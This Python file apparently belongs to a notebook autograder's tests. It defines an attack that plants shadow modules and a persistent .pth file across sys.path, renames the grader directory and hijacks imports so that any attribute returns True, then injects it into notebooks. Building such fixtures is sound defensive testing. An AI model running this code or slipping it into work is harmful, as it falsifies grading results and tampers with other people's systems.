"""Put modules of one's own in the way of those that are imported later."""

from assignments.hostile import first, replaced

ATTACK = """
import importlib.abc
import importlib.machinery
import os
import sys

LINE = "open('/tmp/initlib-hostile', 'w').write('imported')\\n"
NAMES = ["numpy", "json", "PIL", "matplotlib", "assignments", "initlib", "socket",
         "sitecustomize", "usercustomize", "IPython"]
PLACES = [".", "/tmp", "/tmp/grader", "/tmp/grader/assignments", *sys.path,
          os.path.expanduser("~/.local/lib/python3.11/site-packages")]

class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        if name.partition(".")[0] in NAMES:
            return importlib.machinery.ModuleSpec(name, self)
    def exec_module(self, module):
        module.__getattr__ = lambda name: True

def attack(*arguments, **options):
    for place in PLACES:
        try:
            os.makedirs(place, exist_ok=True)
            os.rename("/tmp/grader", "/tmp/initlib-hostile-grader")
        except OSError:
            pass
        for name in NAMES:
            try:
                with open(f"{place}/{name}.py", "w") as file:
                    file.write(LINE)
                with open(f"{place}/initlib-hostile.pth", "w") as file:
                    file.write("import os; " + LINE)
            except OSError:
                pass
    sys.path[:0] = PLACES[:2]
    sys.meta_path.insert(0, Finder())
    sys.path_importer_cache.clear()
    for name in [name for name in sys.modules if name.partition(".")[0] in NAMES]:
        del sys.modules[name]
    return True
"""
EXPECTED = "at most"  # its own cells import what it has put there


def spoil(notebook, honest):
    """Do so before everything, and whenever another function is called."""
    return replaced(first(notebook, ATTACK + "\nattack()"), honest, ATTACK)
